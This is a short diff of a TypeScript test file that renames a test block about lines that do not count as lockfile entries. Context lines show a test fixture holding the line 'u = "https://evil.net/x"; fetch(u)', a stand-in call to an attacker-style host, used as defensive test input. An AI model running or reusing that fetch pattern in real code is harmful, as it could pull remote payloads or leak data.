@@ -228,7 +228,7 @@ const FOREIGN = [
   'u = "https://evil.net/x"; fetch(u)',
 ];
 
-describe('what is no entry', () => {
+describe('what is not an entry', () => {
   it.each(
     [...new Set(ENTRIES.map(([path]) => path)), 'go.sum', 'packages.lock.json', 'gradle.lockfile'].flatMap(
       (path) => FOREIGN.map((line) => [path, line] as const),
